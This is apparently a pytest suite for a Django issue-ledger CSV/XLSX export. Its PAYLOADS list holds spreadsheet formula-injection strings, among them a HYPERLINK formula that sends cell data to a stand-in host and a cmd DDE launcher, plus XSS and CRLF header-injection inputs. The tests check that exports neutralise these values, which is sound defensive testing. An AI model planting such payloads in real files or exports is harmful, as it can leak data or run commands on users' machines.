import csv
import io
import secrets
import tempfile
from datetime import UTC, date, datetime, timedelta

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from issues.exports import (
    COLUMN_KEYS,
    COLUMNS,
    content_disposition,
    export_filename,
    ledger_rows,
    stream_csv,
    stream_xlsx,
)
from issues.models import ActionUpdate, Issue
from roundtable.meetings.models import Meeting, Roundtable
from tests import factories
from tests.issues.test_xlsx import shown

pytestmark = pytest.mark.django_db

# SECURITY.md §2 cases 8 and 9: each must come back as this very text, never a formula.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tindented =1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "#N/A",
]
HEADERS = [str(header) for _key, header, _width in COLUMNS]
DEADLINE = COLUMN_KEYS.index("deadline")
TITLE = COLUMN_KEYS.index("title")


def _issues(n, *, departments, category, person):
    """``n`` issues, each with a lead and a co-handler, and two progress updates."""
    lead, co = departments
    made = []
    for i in range(n):
        issue = factories.IssueFactory(
            title=f"Issue {i} 用地审批",
            category=category,
            monitor=person,
            deadline=date(2026, 12, 1) + timedelta(days=i),
            follow_up_requirement="Report monthly",
        )
        factories.AssignmentFactory(
            issue=issue, department=lead, role="lead", responsible_person=person
        )
        factories.AssignmentFactory(issue=issue, department=co, role="co")
        earlier = timezone.now() - timedelta(days=2)
        ActionUpdate.objects.create(issue=issue, kind="progress", body="old", created_at=earlier)
        ActionUpdate.objects.create(issue=issue, kind="progress", body=f"latest {i}")
        ActionUpdate.objects.create(issue=issue, kind="comment", body="not progress")
        made.append(issue)
    return made


@pytest.fixture
def ledger(dept_a, dept_b, monitor):
    def make(n):
        category = factories.CategoryFactory(code="land", name_en="Land", name_zh="用地")
        return _issues(n, departments=(dept_a, dept_b), category=category, person=monitor)

    return make


def _xlsx(rows, **kwargs):
    data = b"".join(stream_xlsx(rows, title="Ledger", **kwargs))
    return load_workbook(io.BytesIO(data)).active


def _csv(rows):
    chunks = list(stream_csv(rows))
    data = b"".join(chunks)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_ledger_rows_follow_the_queryset_order_with_one_row_per_issue(ledger):
    issues = ledger(3)
    rows = list(ledger_rows(Issue.objects.order_by("deadline")))
    assert [row[0] for row in rows] == [issue.reference for issue in issues]
    assert len(rows[0]) == len(COLUMNS)


def test_ledger_rows_carry_departments_people_and_the_latest_progress(ledger, monitor):
    [issue] = ledger(1)
    row = dict(zip(COLUMN_KEYS, next(ledger_rows(Issue.objects.all())), strict=True))
    assert row["title"] == "Issue 0 用地审批"
    assert row["enterprise"] == issue.enterprise.name_en
    assert row["category"] == "Land"
    assert row["source"] == "Meeting"
    assert row["lead_department"] == "Department A"
    assert row["co_departments"] == "Department B"
    assert row["responsible_person"] == str(monitor)
    assert row["monitor"] == str(monitor)
    assert row["deadline"] == date(2026, 12, 1)
    assert row["status"] == "Logged"
    assert row["latest_progress"] == "latest 0"
    assert row["concluded_on"] is None
    assert row["satisfaction"] == ""


def test_ledger_rows_name_the_meeting_and_outcome_without_extra_queries(
    ledger, dept_a, django_assert_num_queries
):
    [issue] = ledger(1)
    roundtable = Roundtable.objects.create(
        name_zh="圆桌会议", jurisdiction="District", leading_department=dept_a
    )
    meeting = Meeting.objects.create(
        roundtable=roundtable,
        kind=Meeting.Kind.QUARTERLY_ROUNDTABLE,
        topic="Q1 roundtable",
        starts_at=datetime(2026, 3, 2, 1, 30, tzinfo=UTC),  # 09:30 in Shanghai
    )
    Issue.objects.filter(pk=issue.pk).update(
        meeting=meeting, concluded_on=date(2026, 11, 20), satisfaction="basically"
    )
    with django_assert_num_queries(3):
        row = dict(zip(COLUMN_KEYS, next(ledger_rows(Issue.objects.all())), strict=True))
    assert row["source"] == "Meeting: 2026-03-02 Q1 roundtable"
    assert row["concluded_on"] == date(2026, 11, 20)
    assert row["satisfaction"] == "Basically satisfied"


def test_ledger_rows_ignore_departments_no_longer_assigned(ledger, dept_c):
    [issue] = ledger(1)
    issue.assignments.filter(role="co").update(is_current=False)
    factories.AssignmentFactory(issue=issue, department=dept_c, role="co")
    row = dict(zip(COLUMN_KEYS, next(ledger_rows(Issue.objects.all())), strict=True))
    assert row["co_departments"] == "Department C"


def test_ledger_rows_speak_the_language_active_when_called(ledger):
    ledger(1)
    with translation.override("zh-hans"):
        rows = ledger_rows(Issue.objects.all())
    # Consumed later, as a streamed response is, after the view's language is gone.
    with translation.override("en"):
        row = dict(zip(COLUMN_KEYS, next(rows), strict=True))
    assert row["lead_department"] == "甲局"
    assert row["co_departments"] == "乙局"
    assert row["category"] == "用地"


@pytest.mark.parametrize("count", [5, 50])
def test_ledger_rows_run_the_same_queries_for_5_or_50_issues(
    ledger, count, django_assert_num_queries
):
    ledger(count)
    queryset = Issue.objects.all()
    # The ids, then the issues (with the latest progress) and their assignments.
    with django_assert_num_queries(3):
        rows = list(ledger_rows(queryset))
    assert len(rows) == count
    assert {row[COLUMN_KEYS.index("latest_progress")] for row in rows} == {
        f"latest {i}" for i in range(count)
    }


def test_ledger_rows_add_two_queries_per_chunk(ledger, django_assert_num_queries):
    ledger(50)
    with django_assert_num_queries(1 + 2 * 3):
        rows = list(ledger_rows(Issue.objects.order_by("id"), chunk_size=20))
    assert len(rows) == 50


def test_xlsx_has_the_header_frozen_widths_and_one_row_per_issue(ledger):
    issues = ledger(4)
    sheet = _xlsx(ledger_rows(Issue.objects.order_by("deadline")))
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].width == COLUMNS[2][2]
    assert sheet.max_row == len(issues) + 1
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [i.reference for i in issues]


def test_xlsx_dates_are_real_date_cells(ledger):
    ledger(1)
    sheet = _xlsx(ledger_rows(Issue.objects.all()))
    cell = sheet.cell(row=2, column=DEADLINE + 1)
    assert cell.is_date
    assert cell.number_format == "yyyy-mm-dd"
    assert cell.value == datetime(2026, 12, 1)  # noqa: DTZ001 - Excel dates carry no zone


def test_xlsx_chinese_title_round_trips(ledger):
    ledger(1)
    sheet = _xlsx(ledger_rows(Issue.objects.all()))
    assert sheet.cell(row=2, column=TITLE + 1).value == "Issue 0 用地审批"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_shows_injection_payloads_as_literal_text(ledger, payload):
    [issue] = ledger(1)
    Issue.objects.filter(pk=issue.pk).update(title=payload, follow_up_requirement=payload)
    sheet = _xlsx(ledger_rows(Issue.objects.all()))
    for column in (TITLE, COLUMN_KEYS.index("follow_up_requirement")):
        cell = sheet.cell(row=2, column=column + 1)
        assert cell.data_type == "s"
        assert cell.value == payload


def test_xlsx_writes_every_payload_of_a_row_as_text():
    sheet = _xlsx([PAYLOADS], columns=[(f"c{i}", f"C{i}", 10) for i in range(len(PAYLOADS))])
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.data_type for cell in cells] == ["s"] * len(PAYLOADS)
    assert [cell.value for cell in cells] == PAYLOADS


# Stored text that broke the workbook: XML 1.0 cannot hold U+FFFF, U+FFFE or most C0
# controls, and Excel and LibreOffice read a literal _x000D_ as an escaped carriage return.
# (No NUL: PostgreSQL cannot store one; tests/issues/test_xlsx.py writes it.)
HOSTILE = ["a\uffffb", "\ufffe", "_x000D_", "a\x01b\x0bc\x1fd", "=1+1", "用地审批", "😀"]


def test_xlsx_keeps_every_row_and_the_exact_text_of_hostile_titles(ledger):
    issues = ledger(len(HOSTILE) + 1)
    for issue, title in zip(issues, HOSTILE, strict=False):
        Issue.objects.filter(pk=issue.pk).update(title=title)
    sheet = _xlsx(ledger_rows(Issue.objects.order_by("deadline")))
    assert sheet.max_row == len(issues) + 1  # the rows after U+FFFF too
    titles = [shown(row[TITLE].value) for row in sheet.iter_rows(min_row=2)]
    assert titles == [*HOSTILE, issues[-1].title]


def test_xlsx_line_breaks_are_lf():
    sheet = _xlsx([("line\r\nbreak", "old\rmac")], columns=[("a", "A", 10), ("b", "B", 10)])
    assert [cell.value for cell in list(sheet.iter_rows(min_row=2))[0]] == [
        "line\nbreak",
        "old\nmac",
    ]


def test_xlsx_stream_comes_in_chunks_and_closes_its_file():
    rows = ([secrets.token_hex(32)] for _ in range(5000))  # incompressible enough
    chunks = stream_xlsx(rows, title="Big", columns=[("a", "A", 10)])
    assert chunks.size > 64 * 1024
    first = next(chunks)
    assert len(first) == 64 * 1024
    chunks.close()  # as Django does when the client goes away
    assert list(chunks) == []


def test_a_failed_xlsx_export_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield ["fine"]
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        stream_xlsx(rows(), title="Broken", columns=[("a", "A", 10)])
    assert list(tmp_path.iterdir()) == []


def test_a_finished_xlsx_export_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    chunks = stream_xlsx([["fine"]], title="Fine", columns=[("a", "A", 10)])
    assert list(tmp_path.iterdir()) == []  # the finished file is already unlinked
    assert b"".join(chunks).startswith(b"PK")


def test_xlsx_sheet_title_is_made_valid():
    data = b"".join(stream_xlsx([], title="Ledger: 2026/Q4 [draft]*?", columns=COLUMNS))
    title = load_workbook(io.BytesIO(data)).active.title
    assert len(title) <= 31
    assert not set(title) & set("[]:*?/\\")


def test_csv_has_bom_header_rows_and_chinese(ledger):
    issues = ledger(3)
    lines = _csv(ledger_rows(Issue.objects.order_by("deadline")))
    assert lines[0] == HEADERS
    assert [line[0] for line in lines[1:]] == [issue.reference for issue in issues]
    assert lines[1][TITLE] == "Issue 0 用地审批"
    assert lines[1][DEADLINE] == "2026-12-01"


def test_csv_neutralises_formula_cells_with_an_apostrophe():
    payloads = [*PAYLOADS, "\r=1+1", "plain", "a=b"]
    _header, row = _csv_one(payloads)
    expected = ["'" + p if p.startswith(("=", "+", "-", "@", "\t", "\r")) else p for p in payloads]
    assert row == expected
    assert row[5] == "<script>alert(1)</script>"


def test_csv_carries_any_text_and_replaces_only_lone_surrogates():
    _header, row = _csv_one([*HOSTILE, "a\ud800b", "\ud83d\ude00"])
    assert row == [*HOSTILE[:4], "'=1+1", *HOSTILE[5:], "a\ufffdb", "😀"]


def test_the_csv_download_says_it_is_utf8(client, staff, ledger):
    ledger(1)
    client.force_login(staff)
    response = client.get("/issues/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM by which Excel reads UTF-8
    assert "用地审批" in body.decode("utf-8-sig")


def _csv_one(values):
    columns = [(f"c{i}", f"C{i}", 10) for i in range(len(values))]
    data = b"".join(stream_csv([values], columns=columns))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_streams_lazily_in_pieces():
    chunks = stream_csv(([f"{i}", "x" * 100] for i in range(2000)), columns=COLUMNS[:2])
    pieces = list(chunks)
    assert len(pieces) > 1
    assert pieces[0].startswith(b"\xef\xbb\xbf")
    assert not any(piece.startswith(b"\xef\xbb\xbf") for piece in pieces[1:])


def test_export_filename_uses_the_local_date():
    with timezone.override("Asia/Shanghai"):
        name = export_filename("ledger", "xlsx")
    assert name == f"ledger-{timezone.localdate():%Y-%m-%d}.xlsx"


def test_content_disposition_has_ascii_fallback_and_utf8_name():
    value = content_disposition("报告 2026.pdf")
    assert value == (
        "attachment; filename=\"2026.pdf\"; filename*=UTF-8''%E6%8A%A5%E5%91%8A%202026.pdf"
    )


@pytest.mark.parametrize(
    "name",
    ['a"b.pdf', "a;b.pdf", "a\r\nSet-Cookie: x=1.pdf", "报告.pdf", "..", ""],
)
def test_content_disposition_never_breaks_the_header(name):
    value = content_disposition(name)
    fallback = value.split('filename="', 1)[1].split('"', 1)[0]
    assert "\r" not in value and "\n" not in value
    assert fallback and '"' not in fallback and ";" not in fallback
    assert value.count(";") == 2


def test_ledger_rows_name_people_as_the_pages_do(ledger, monitor):
    # User.__str__: the full name, else first and last name, else the username.
    [issue] = ledger(1)
    for fields in (
        {"full_name": "", "first_name": "Lin", "last_name": "Wei"},
        {"full_name": "", "first_name": "", "last_name": ""},
    ):
        type(monitor).objects.filter(pk=monitor.pk).update(**fields)
        monitor.refresh_from_db()
        row = dict(zip(COLUMN_KEYS, next(ledger_rows(Issue.objects.all())), strict=True))
        assert row["monitor"] == row["responsible_person"] == str(monitor)
    assert str(monitor) == "monitor"
